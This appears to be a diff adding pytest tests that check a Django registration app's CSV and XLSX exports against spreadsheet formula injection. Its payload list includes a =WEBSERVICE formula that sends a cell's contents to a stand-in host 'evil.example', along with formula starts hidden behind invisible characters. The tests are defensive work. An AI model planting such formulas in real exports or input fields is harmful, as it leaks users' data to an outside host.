@@ -1,0 +1,105 @@
+"""Formula injection in the registrations' exports: a cell is cleaned first (control and
+format characters, leading whitespace), then judged, so no text a person typed reaches a
+spreadsheet as a formula. Parsed back with csv and openpyxl."""
+
+import csv
+import io
+import unicodedata
+
+import openpyxl
+import pytest
+
+from registration import questions
+from registration.exports import spreadsheet_text
+from registration.models import Registration, RegistrationExport
+from tests.factories import QuestionFactory, RegistrationFactory
+from tests.registration.task_worker import run_tasks
+
+pytestmark = pytest.mark.django_db
+
+CHANGELIST = "/admin/registration/registration/"
+EXPORTS = "/admin/registration/registrationexport/"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+# (as typed, as exported): cleaned, then kept as text with a leading apostrophe.
+PAYLOADS = [
+    ('\x02=WEBSERVICE("http://evil.example/?"&A2)', '\'=WEBSERVICE("http://evil.example/?"&A2)'),
+    ("\x01=1+1", "'=1+1"),
+    ("\u200b=1", "'=1"),
+    ("\ufeff\u00ad=1", "'=1"),
+    ("\u202e=1", "'=1"),
+    ("\t=1", "'=1"),
+    ("\r\n=1", "'=1"),
+    (" =1", "'=1"),
+    ("\u00a0\u3000=1", "'=1"),
+    ("\uff1d1+1", "'\uff1d1+1"),  # a fullwidth equals sign
+    ("+1", "'+1"),
+    ("-1", "'-1"),
+    ("@SUM(1)", "'@SUM(1)"),
+    ("Zo\u00ebe\x0b\u200bO'Neil", "Zo\u00ebeO'Neil"),
+    ("Jose\u0301", "Jos\u00e9"),  # NFC
+]
+
+
+def starts_like_a_formula(text):
+    return unicodedata.normalize("NFKC", text)[:1] in FORMULA_STARTS
+
+
+@pytest.mark.parametrize(("typed", "exported"), PAYLOADS)
+def test_spreadsheet_text_cleans_then_neutralises(typed, exported):
+    assert spreadsheet_text(typed) == exported
+
+
+def assert_safe(cells):
+    for cell in cells:
+        assert not starts_like_a_formula(cell), repr(cell)
+        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in cell), repr(cell)
+
+
+@pytest.fixture
+def typed(conference):
+    """One registration per payload: in a name, an institution, an answer and a question."""
+    for number, (text, _exported) in enumerate(PAYLOADS):
+        question = QuestionFactory(conference=conference, text=text, kind="short_text")
+        person = RegistrationFactory(
+            conference=conference,
+            given_name=text,
+            family_name=f"Payload{number:02d}",
+            institution=text,
+        )
+        questions.save_answers(person, {question: text})
+
+
+def post_action(client, action):
+    ids = list(Registration.objects.values_list("pk", flat=True))
+    return client.post(CHANGELIST, {"action": action, "_selected_action": ids})
+
+
+def test_csv_export_has_no_formula(admin_client, typed):
+    response = post_action(admin_client, "export_csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    headers, body = rows[0], rows[1:]
+    assert headers[20:] == [exported for _typed, exported in PAYLOADS]
+    assert [(row[2], row[5]) for row in body] == [
+        (exported, exported) for _typed, exported in PAYLOADS
+    ]
+    for number, row in enumerate(body):
+        assert row[20 + number] == PAYLOADS[number][1]
+    assert_safe(cell for row in rows for cell in row)
+
+
+def test_xlsx_export_has_no_formula(admin_client, typed, django_capture_on_commit_callbacks):
+    with django_capture_on_commit_callbacks(execute=True):
+        post_action(admin_client, "export_xlsx")
+    run_tasks()
+    made = RegistrationExport.objects.get()
+    assert made.state == RegistrationExport.State.DONE
+    response = admin_client.get(f"{EXPORTS}{made.pk}/download/")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Registrations"]
+    rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
+    assert rows[0][20:] == [exported for _typed, exported in PAYLOADS]
+    assert [(row[2], row[5]) for row in rows[1:]] == [
+        (exported, exported) for _typed, exported in PAYLOADS
+    ]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert_safe(str(cell) for row in rows for cell in row)
